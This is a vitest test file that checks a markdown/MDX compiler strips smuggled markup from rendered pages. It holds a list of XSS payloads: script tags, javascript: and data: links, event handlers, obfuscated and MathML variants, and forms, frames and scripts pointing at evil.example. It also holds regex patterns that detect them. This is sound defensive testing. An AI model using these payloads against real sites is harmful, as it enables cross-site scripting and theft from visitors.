import { expect, it } from 'vitest';
import { render } from '@/lib/content/compile/test-factories';
import { scanHtml } from '../html/scan-html';
import { listInlineCode } from './list-inline';

const SMUGGLED = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': 'Words <SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
  'a script behind a comment that is none': '<!--><script>alert(1)</script>-->',
  'an expression': '{alert(1)}',
  'an import': "import x from 'node:fs'",
  'an export': 'export const x = alert(1)',
  'an expression in a component': '<Callout type={alert(1)}>x</Callout>',
  'attributes from nowhere': '<Callout {...props}>x</Callout>',
  'an event handler': '<Callout onClick="alert(1)">x</Callout>',
  'raw HTML through React': '<Callout dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />',
  'a style': '<style>*{display:none}</style>',
  'a style attribute': '<p style="position:fixed">x</p>',
  'an image that fails': '<img src="x" onerror="alert(1)">',
  'a drawing that loads': '<svg onload="alert(1)"></svg>',
  'a document in a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an address that runs': '[x](javascript:alert(1))',
  'an address that runs, in pieces': '[x](<java\tscript:alert(1)>)',
  'an address that runs, encoded': '[x](&#106;avascript&colon;alert(1))',
  'an address that runs, by reference': '[x]\n\n[x]: javascript:alert(1)',
  'an address that runs, by itself': '<javascript:alert(1)>',
  'a script in a table': '| a |\n| - |\n| <script>alert(1)</script> |',
  'a script in two halves': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script in a component': '<Callout>\n\n<script>alert(1)</script>\n\n</Callout>',
  'the name of a component of ours': '<mdx-component data-name="Figure" data-props="{}"></mdx-component>',
  'a form that sends': '<form action="https://evil.example"><input name="a"><button>Send</button></form>',
  'a frame in a details':
    '<details>\n<summary>More</summary>\n<iframe src="https://evil.example"></iframe>\n</details>',
  'an address that runs, in HTML': '<a href="javascript:alert(1)">x</a>',
  'an address that runs, in a formula': '$\\href{javascript:alert(1)}{x}$',
  'a style in a formula': '$\\htmlStyle{color:red}{x} \\colorbox{red}{x}$',
  'a base address':
    '<base href="https://evil.example/"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0">',
  'markup through MathML':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a class of the site': '<p class="site-header" id="main">x</p>',
  'a document for an address': '[x](data:text/html,<script>alert(1)</script>)',
  'a document for an image': '![x](data:image/svg+xml,<svg onload="alert(1)"/>)',
} as const;

const cases = Object.entries(SMUGGLED).flatMap(([name, body]) =>
  (['md', 'mdx'] as const).map((format) => ({ name, body, format })),
);

it.each(cases)('keeps $name in .$format out of the page', async ({ body, format }) => {
  const { html, plainHtml, markdown } = await render(body, {}, { path: `a.${format}`, format });
  for (const markup of [html, plainHtml]) {
    expect(listInlineCode(scanHtml(markup), new Set())).toEqual({ scripts: [], styles: [] });
    expect(markup).not.toMatch(
      /<(?:script|style|iframe|svg|form|object|embed|link|meta|base)[\s>]|<[^>]*\s(?:on\w+|style)=|(?:href|src|srcset)="(?:javascript|data):/i,
    );
  }
  expect(markdown).not.toMatch(/^<|[^\\]<(?:script|style|iframe|svg|img|p)\b|\]\((?:javascript|data):/im);
});
